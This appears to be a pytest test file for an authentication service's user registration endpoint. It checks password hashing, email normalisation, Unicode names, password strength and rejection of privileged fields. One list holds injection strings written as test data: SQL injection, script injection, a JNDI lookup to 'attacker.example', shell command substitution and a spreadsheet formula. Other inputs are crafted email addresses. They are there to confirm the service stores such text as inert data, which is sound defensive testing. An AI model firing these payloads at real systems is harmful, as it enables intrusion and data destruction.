"""POST /users: the response and the stored account."""

import re
import unicodedata
from datetime import UTC, date, datetime, timedelta
from urllib.parse import urljoin
from uuid import UUID

import pytest
from sqlalchemy import select

from auth_common.database.tables import users
from tests.support.factories import EMAIL, PASSWORD, get_user, log_in, register, registration
from tests.support.functions import authorize

pytestmark = [pytest.mark.accounts, pytest.mark.sqlite]


@pytest.mark.aurora_dsql
@pytest.mark.asvs("1.2.2", "4.1.1", "14.2.4", "15.3.1")
@pytest.mark.threat("database-read-or-backup")
def test_registration_returns_the_user_and_stores_a_bcrypt_hash(database):
    answer = register()
    assert answer.status == 201
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["cache-control"] == "no-store"
    user = answer.json
    assert UUID(user.pop("id")).version == 4
    created_at = user.pop("created_at")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", created_at)
    assert abs(datetime.fromisoformat(created_at) - datetime.now(UTC)) < timedelta(minutes=1)
    expected = registration(role="user", email_verified=False)
    assert user == {name: value for name, value in expected.items() if name != "password"}
    # The location works below a domain and below a stage's path.
    for api in ("https://auth.example.com", "https://a1b2.execute-api.eu-central-1.amazonaws.com/dev"):
        assert urljoin(f"{api}/users", answer.headers["location"]) == f"{api}/users/{answer.json['id']}"
    (row,) = database.execute(select(users))
    assert re.fullmatch(r"\$2b\$04\$[./A-Za-z0-9]{53}", row.password_hash)
    assert PASSWORD not in str(row)
    assert (row.role, row.status, row.token_version) == ("user", "active", 0)


@pytest.mark.aurora_dsql
def test_date_of_birth_with_a_time_is_stored_as_its_date(database):
    times = ["T10:00:00Z", "T00:30:00+02:00", "T23:59:59.999-11:00", "t10:00:00z", "T00:00:00", "T23:59:60Z"]
    times += ["T10:00:00,5+0200", "T10:00:00.123456789012Z", "T10:00", "T10Z", "T10:00-11"]
    times += ["T24:00:00", "T24:00:00.000-00:00"]
    yesterday = datetime.now(UTC).date() - timedelta(days=1)
    for text in ("1980-04-14", *(f"1980-04-14{time}" for time in times), "1900-01-01", yesterday.isoformat()):
        answer = register(date_of_birth=text, email=f"person{database.count(users)}@example.com")
        assert answer.json["date_of_birth"] == text[:10], text
    stored = {row.date_of_birth for row in database.execute(select(users))}
    assert stored == {date(1980, 4, 14), date(1900, 1, 1), yesterday}


LOCAL_DOMAINS = [
    "example.test",
    "corp.local",
    "box.localhost",
    "some.example",
    "home.arpa",
    "corp.internal",
    "corp.lan",
]
EMAILS = {
    "Person@Example.COM": "person@example.com",
    "person+tag@example.com": "person+tag@example.com",
    "person@bücher.example": "person@xn--bcher-kva.example",
    "other@BÜCHER.example": "other@xn--bcher-kva.example",
    " \tother@example.com\u00a0\n": "other@example.com",
    **{f"person@{domain}": f"person@{domain}" for domain in LOCAL_DOMAINS},
}


@pytest.mark.usefixtures("database")
def test_email_is_stored_in_normal_form_also_in_local_domains():
    for written, stored in EMAILS.items():
        assert register(email=written).json["email"] == stored
        assert register(email=f" {stored}").code == "email_taken"
        assert log_in(written).status == 200


CODE = [
    "Robert'); DROP TABLE users; --",
    'x" OR "1"="1',
    "<script>alert(1)</script>",
    '","role":"admin","x":"',
    "{0.__class__.__init__.__globals__} %s %n",
    "${jndi:ldap://attacker.example/x} $(id) `id` #{7*7} {{7*7}}",
    "=cmd|'/c calc'!A1",
    "%27%20OR%201=1 &lt;b&gt; \\u0041 \\x41",
]


@pytest.mark.asvs("1.1.1", "1.1.2", "1.2.1", "1.2.3", "1.2.9", "1.3.2", "1.3.10")
@pytest.mark.aurora_dsql
def test_text_that_looks_like_code_is_stored_and_returned_as_text(database):
    """The service decodes the text once and encodes it once. No layer executes it."""
    for number, text in enumerate(CODE):
        email = f"person{number}@example.com"
        user = register(name=text, email=email).json
        assert (user["name"], user["role"]) == (text, "user")
        pair = log_in(email).json
        assert authorize(pair["access_token"])["principalId"] == user["id"]
        assert get_user(user["id"], token=pair["access_token"]).json["name"] == text
    assert database.execute(select(users.c.name).order_by(users.c.email)) == [(text,) for text in CODE]


@pytest.mark.asvs("1.2.4")
@pytest.mark.aurora_dsql
def test_address_containing_sql_finds_only_its_own_account(database):
    register()
    for email in ("o'or'1'='1@example.com", "a{0}$b|`id`@example.com"):
        register(email=email, name="Other Person")
        assert log_in(email).status == 200
    assert log_in("x'or'1'='1@example.com").status == 401
    assert database.count(users) == 3


#: Characters that Unicode 15 to 18 assigned, and unassigned ones. Python 3.11 has Unicode 14, Python 3.13 has 15.1.
NEW_LETTERS = [
    *("\U00031350", "\U000323b0", "\U000323b0\U00033479", "\U00011f04\U00011f05"),
    *("\U0001e4d0", "\U000105c0", "\ua7da"),
]
NEW_TEXTS = ["王\U00031350", "Zoe \U0001fae8", "Zoe \U00010efd\u0cf3", "Zoe\u0378", "Zoe \U0001ccd6", "葛\U000e0100城"]


@pytest.mark.aurora_dsql
@pytest.mark.usefixtures("database")
def test_name_of_any_script_or_with_new_characters_is_stored():
    names = ["Zoë", "李", "محمد", "O\u2019Brien-Smith Jr.", "نگار\u200cنامه", "Nǃxau ǂToma"]  # noqa: RUF001 - real names
    for number, name in enumerate([*names, *NEW_LETTERS, *NEW_TEXTS]):
        answer = register(name=name, job_title=name, email=f"person{number}@example.com")
        assert (answer.status, answer.json.get("name"), answer.json.get("job_title")) == (201, name, name), ascii(name)


@pytest.mark.asvs("6.3.8")
@pytest.mark.aurora_dsql
def test_taken_address_returns_409_after_a_hash_and_changes_nothing(database, hash_costs):
    register(name="First Person")
    assert hash_costs == [4]
    answer = register(name="Second Person")
    assert answer.status == 409
    assert answer.json.keys() == {"type", "title", "status", "detail", "code", "request_id"}
    assert answer.json["title"] == "Conflict"
    assert answer.code == "email_taken"
    assert EMAIL not in answer.text
    assert hash_costs == [4, 4]
    assert database.execute(select(users.c.name)) == [("First Person",)]


@pytest.mark.asvs("2.2.2", "6.3.2", "6.4.2", "8.2.3", "15.3.3")
@pytest.mark.threat("function-privilege-in-body")
def test_registration_with_a_privileged_field_is_rejected(database):
    privileges = ["role", "status", "id", "token_version", "created_at", "password_hash", "is_admin", "__proto__"]
    recovery = ["password_hint", "security_question", "security_answer"]  # forbidden by ASVS 5.0 6.4.2
    for field in (*privileges, *recovery):
        answer = register(**{field: "admin"})
        assert (answer.status, answer.fields) == (422, {field})
    assert database.count(users) == 0


LOOK_ALIKES = [
    "perso\u043d@example.com",  # a Cyrillic letter
    "p\u0435rson@example.com",  # a Cyrillic "e"
    "person\uff20example.com",  # a full-width "@"
    "\uff50erson@example.com",  # a full-width "p"
    "per\u017fon@example.com",  # a long s, which upper case turns into "S"
    "person@example\u3002com",  # an ideographic full stop
]


@pytest.mark.asvs("10.3.3")
def test_look_alike_of_an_address_cannot_register(database):
    register(email=EMAIL)
    for look_alike in LOOK_ALIKES:
        answer = register(email=look_alike)
        assert (answer.status, answer.code) in [(422, "validation_failed"), (409, "email_taken")], look_alike
    register(email="mike@example.com")
    dotless = "m\u0131ke@example.com"
    assert (register(email=dotless).status, log_in(dotless).status) == (422, 422)
    assert {row.email for row in database.execute(select(users.c.email))} == {EMAIL, "mike@example.com"}


@pytest.mark.asvs("6.2.5")
@pytest.mark.usefixtures("database")
def test_long_password_of_any_script_is_accepted():
    passwords = [
        "zebra violin 42",  # 15 characters
        "drums " * 42 + "end",  # 255
        "Ünïcödé übermäßig größe",
        "五十音順に並べた合言葉は長い方がよい",
        "🦉🌵🎻🧭🪂🧊🥁🪁🛶🧶🪗🥨🧲🪕🧵",
    ]
    for number, password in enumerate(passwords):
        email = f"person{number}@example.com"
        assert register(password=password, email=email).status == 201
        assert log_in(email, password).status == 200
        assert log_in(email, password[:-1]).status == 401


REJECTED_PASSWORDS = [
    *("", "zebra violin 4"),  # 14 characters
    "e\u0301" * 14,  # 28 code points as typed, 14 after NFKC
    *("a" * 257, "correct violin " * 20),
    "\ufdfa" * 15,  # one code point as typed, eighteen after NFKC: 270
    *("aaaaaaaaaaaaaaaa", "123456789012345678", "qwertyuiopasdfghjkl", "passwordpassword", "1qaz2wsx3edc4rfv"),
    *("TestPerson-1980!", "person@example.com", "Engineer Person Test", "person.test.person.2024"),
]


@pytest.mark.asvs("2.2.3", "6.2.1", "6.2.4", "6.2.11")
def test_weak_password_is_rejected(database):
    answers = {password: register(password=password) for password in REJECTED_PASSWORDS}
    accepted = [password for password, each in answers.items() if (each.status, each.fields) != (422, {"password"})]
    assert accepted == []
    assert database.count(users) == 0


@pytest.mark.asvs("6.2.9")
@pytest.mark.usefixtures("database")
def test_all_characters_of_a_password_count_after_normalisation():
    """bcrypt alone reads 72 bytes, and keyboards encode a character in several ways (NIST SP 800-63B-4)."""
    long = "violet anchor seventeen drums " * 2 + "ﬁne café Ångström "
    register(password=long + "one")
    assert log_in(password=long + "two").status == 401
    assert log_in(password=long + "one").status == 200
    assert log_in(password=unicodedata.normalize("NFKD", long) + "one").status == 200
